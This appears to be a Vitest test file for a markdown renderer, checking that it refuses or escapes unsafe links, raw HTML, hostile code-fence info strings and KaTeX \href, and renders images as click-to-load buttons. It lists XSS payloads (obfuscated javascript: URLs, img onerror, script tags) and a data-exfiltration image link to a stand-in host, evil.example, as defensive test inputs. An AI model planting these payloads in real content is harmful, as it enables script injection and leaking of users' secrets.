import { describe, expect, it } from "vitest";

import { createMarkdown, hostOf, isSafeUrl } from "./md";

const md = createMarkdown();

describe("link safety", () => {
  it.each([
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "jav&#x09;ascript:alert(1)",
    "blob:https://example.com/x",
    "javascript\u200b:alert(1)",
  ])("refuses %j", (url) => {
    expect(isSafeUrl(url)).toBe(false);
  });

  it.each(["https://example.com/a?b=c#d", "http://x.y", "mailto:a@b.c", "/relative", "#frag", "a/b:c", "?q=1"])(
    "accepts %j",
    (url) => {
      expect(isSafeUrl(url)).toBe(true);
    },
  );

  it.each([
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
  ])("renders %j without a dangerous href", (source) => {
    const html = md.render(source);
    expect(html).not.toMatch(/href="\s*(javascript|vbscript|data)/i);
    expect(html).not.toContain("<a ");
  });

  it("keeps raw HTML as text", () => {
    const html = md.render('<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\nx <b onclick="a()">y</b>');
    expect(html).not.toMatch(/<(img|script|b)\b/);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });
});

describe("images", () => {
  it("render as a button naming the host, never as <img>", () => {
    const html = md.render("![secret](https://evil.example/log?q=SECRET)");
    expect(html).not.toContain("<img");
    expect(html).toContain('class="md-image"');
    expect(html).toContain("Load image from evil.example");
    expect(html).toContain('data-src="https://evil.example/log?q=SECRET"');
  });

  it("with a reference definition too", () => {
    const html = md.render("![a][i]\n\n[i]: https://evil.example/p.png");
    expect(html).not.toContain("<img");
    expect(html).toContain("evil.example");
  });

  it("with an unsafe URL stay text", () => {
    const html = md.render("![a](javascript:alert(1))");
    expect(html).not.toContain("md-image");
  });

  it("names the host", () => {
    expect(hostOf("https://a.b.example:8443/x")).toBe("a.b.example");
    expect(hostOf("/local.png")).toBe("");
  });
});

describe("the dialect", () => {
  it("has GFM tables, strikethrough and task lists", () => {
    const html = md.render("| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~\n\n- [x] done\n- [ ] todo\n");
    expect(html).toContain('<div class="table-wrap"><table>');
    expect(html).toContain("<s>gone</s>");
    expect(html).toContain('<ul class="contains-task-list">');
    expect(html).toContain(
      '<input class="task-list-item-checkbox" type="checkbox" disabled checked aria-label="Done"> done',
    );
    expect(html).toContain('<input class="task-list-item-checkbox" type="checkbox" disabled aria-label="To do"> todo');
  });

  it("highlights fenced code with a known language, and escapes the rest", () => {
    const html = md.render("```python\ndef f(): return '<b>'\n```\n\n```nope\n<x>\n```\n");
    expect(html).toContain('<code class="hljs language-python">');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain("&lt;x&gt;");
    expect(html).toContain('aria-label="Copy code"');
  });

  it("escapes a hostile info string", () => {
    const html = md.render('```"><img src=x onerror=alert(1)>\ncode\n```\n');
    expect(html).not.toContain("<img");
    expect(html).not.toContain("onerror");
  });

  it("renders math with KaTeX, and KaTeX refuses \\href", () => {
    const html = md.render("$x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\n$\\href{javascript:alert(1)}{x}$");
    expect(html).toContain('class="katex"');
    expect(html).toContain("katex-display");
    expect(html).not.toMatch(/href="javascript/);
  });

  it("renders ```math fences as math", () => {
    expect(md.render("```math\nE = mc^2\n```\n")).toContain("katex-display");
  });
});
